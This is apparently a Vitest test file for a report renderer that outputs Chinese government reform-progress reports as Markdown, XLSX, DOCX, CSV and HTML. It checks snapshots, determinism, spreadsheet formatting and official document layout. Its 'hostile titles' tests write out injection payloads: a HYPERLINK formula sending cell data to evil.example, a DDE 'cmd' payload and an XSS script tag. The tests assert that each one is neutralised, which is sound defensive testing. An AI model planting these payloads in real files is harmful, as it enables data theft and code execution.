import { createHash } from 'node:crypto'
import ExcelJS from 'exceljs'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { REPORT_FORMATS, renderReport } from '../src/render/render.js'
import { buildReport } from '../src/reports/build.js'
import { REPORT_KINDS } from '../src/reports/model.js'
import { loadExample } from './example.js'

const example = await loadExample()
const sha = (data: string | Uint8Array) => createHash('sha256').update(data).digest('hex')
const bytes = (data: string | Uint8Array) =>
  typeof data === 'string' ? new TextEncoder().encode(data) : data

describe('golden reports of the Wuhan 2017 example on 2017-12-31', () => {
  it.each(REPORT_KINDS)('%s in Markdown (zh-CN)', async (kind) => {
    const md = await renderReport(buildReport({ ...example, kind }), { format: 'md' })
    await expect(md).toMatchFileSnapshot(`__golden__/${kind}.zh-CN.md`)
  })

  it('assessment in Markdown (en)', async () => {
    const md = await renderReport(buildReport({ ...example, kind: 'assessment' }), {
      format: 'md',
      locale: 'en',
    })
    await expect(md).toMatchFileSnapshot('__golden__/assessment.en.md')
  })
})

describe('every kind in every format and language', () => {
  it('renders byte-identically twice', async () => {
    for (const kind of REPORT_KINDS)
      for (const locale of ['zh-CN', 'en'] as const)
        for (const format of REPORT_FORMATS) {
          const first = await renderReport(buildReport({ ...example, kind }), { format, locale })
          const second = await renderReport(buildReport({ ...example, kind }), { format, locale })
          expect(sha(first), `${kind} ${format} ${locale}`).toBe(sha(second))
          expect(bytes(first).byteLength).toBeGreaterThan(200)
        }
  }, 60_000)

  it('gives the same XLSX and DOCX bytes in every run (no clock, no random ids)', async () => {
    const model = buildReport({ ...example, kind: 'kpi' })
    const xlsx = unzipSync((await renderReport(model, { format: 'xlsx' })) as Uint8Array)
    const docx = unzipSync((await renderReport(model, { format: 'docx' })) as Uint8Array)
    expect(strFromU8(xlsx['docProps/core.xml'] as Uint8Array)).toContain('2017-12-31T12:00:00Z')
    expect(strFromU8(docx['docProps/core.xml'] as Uint8Array)).toContain(
      '<dcterms:modified xsi:type="dcterms:W3CDTF">2017-12-31T12:00:00Z</dcterms:modified>',
    )
    expect(Object.keys(docx)[0]).toBe('[Content_Types].xml')
  })
})

describe('XLSX', () => {
  it('reads back with exceljs: sheets, frozen header, numbers, fills, properties', async () => {
    const data = await renderReport(buildReport({ ...example, kind: 'kpi' }), { format: 'xlsx' })
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(data as Uint8Array) as unknown as ArrayBuffer)
    expect(workbook.creator).toBe('reformkit')
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['量化指标'])
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 })
    expect(sheet.getRow(3).values).toEqual([
      undefined,
      '序号',
      '改革事项',
      '责任单位',
      '指标',
      '单位',
      '目标',
      '实际',
      '完成率',
      '状态',
      '预计全年',
    ])
    const highTech = sheet.getRow(7)
    expect(highTech.getCell(3).value).toBe('发改局、发展研究中心、经信局、招商局、各园区')
    expect(highTech.getCell(4).value).toBe('新增高新技术企业')
    expect(highTech.getCell(7).value).toBe(18)
    expect(highTech.getCell(8).value).toBe(0.72)
    expect(highTech.getCell(8).numFmt).toBe('0.0%')
  })

  it('fills traffic-light cells with their colour and writes dates as dates', async () => {
    const progress = new ExcelJS.Workbook()
    await progress.xlsx.load(
      Buffer.from(
        (await renderReport(buildReport({ ...example, kind: 'progress' }), {
          format: 'xlsx',
        })) as Uint8Array,
      ) as unknown as ArrayBuffer,
    )
    const light = progress.worksheets[0]?.getRow(4).getCell(5)
    expect(light?.value).toBe('红灯')
    expect(light?.fill).toMatchObject({ type: 'pattern', fgColor: { argb: 'FFF4B6B6' } })
    const index = new ExcelJS.Workbook()
    await index.xlsx.load(
      Buffer.from(
        (await renderReport(buildReport({ ...example, kind: 'ledger-index' }), {
          format: 'xlsx',
        })) as Uint8Array,
      ) as unknown as ArrayBuffer,
    )
    const date = index.worksheets[0]?.getRow(4).getCell(4)
    expect(date?.value).toEqual(new Date('2017-08-27T00:00:00Z'))
    expect(date?.numFmt).toBe('yyyy-mm-dd')
  })
})

describe('DOCX in official-document layout (GB/T 9704-2012)', () => {
  it('A4, margins 37/35/28/26 mm, fonts by level, page numbers — 1 —', async () => {
    const data = await renderReport(buildReport({ ...example, kind: 'progress' }), {
      format: 'docx',
    })
    const files = unzipSync(data as Uint8Array)
    const document = strFromU8(files['word/document.xml'] as Uint8Array)
    expect(document).toContain('<w:pgSz w:w="11906" w:h="16838" w:orient="portrait"/>')
    expect(document).toMatch(/<w:pgMar w:top="2098" w:right="1474" w:bottom="1984" w:left="1587"/)
    expect(document).toMatch(
      /w:eastAsia="方正小标宋简体"[\s\S]*?<w:sz w:val="44"\/>[\s\S]*?改革事项督办进展情况/,
    )
    expect(document).toMatch(/w:eastAsia="黑体"[\s\S]*?一、牵头负责市级改革事项/)
    expect(document).toMatch(
      /w:eastAsia="仿宋_GB2312"[\s\S]*?<w:sz w:val="32"\/>[\s\S]*?截至 2017-12-31,共 15 项改革事项/,
    )
    expect(document).toContain('实施车都升级版计划')
    const footers = Object.keys(files).filter((name) => /^word\/footer\d+\.xml$/.test(name))
    expect(footers).toHaveLength(2)
    for (const name of footers) {
      const footer = strFromU8(files[name] as Uint8Array)
      expect(footer).toContain('— </w:t>')
      expect(footer).toMatch(/PAGE/)
    }
    expect(strFromU8(files['word/settings.xml'] as Uint8Array)).toContain('<w:evenAndOddHeaders/>')
  })
})

describe('hostile titles', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,1)',
    '<script>alert(1)</script><img src=x onerror=alert(2)>',
  ]
  const entries = example.entries.map((e, i) =>
    i < hostile.length ? { ...e, title: hostile[i] as string } : e,
  )
  const model = buildReport({ ...example, entries, kind: 'ledger-index' })

  it('never become formulas in CSV (neutralised) or XLSX (strings)', async () => {
    const csv = (await renderReport(model, { format: 'csv' })) as string
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`)
    expect(csv).toContain("'+cmd|' /C calc'!A0")
    expect(csv).toContain(",'-2+3,")
    expect(csv).toContain(`"'@SUM(1,1)"`)
    for (const line of csv.split('\r\n'))
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+\-@]/)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(
      Buffer.from(
        (await renderReport(model, { format: 'xlsx' })) as Uint8Array,
      ) as unknown as ArrayBuffer,
    )
    const values = workbook.worksheets.flatMap((s) => s.getSheetValues().flat())
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false)
    expect(values).toContain(hostile[0])
  })

  it('are inert text in HTML and Markdown', async () => {
    const html = (await renderReport(model, { format: 'html' })) as string
    expect(html).not.toContain('<script>alert')
    expect(html).not.toContain('<img src=x')
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(html).not.toMatch(/\b(src|href)="https?:/)
    const md = (await renderReport(model, { format: 'md' })) as string
    expect(md).not.toContain('<script>')
  })
})
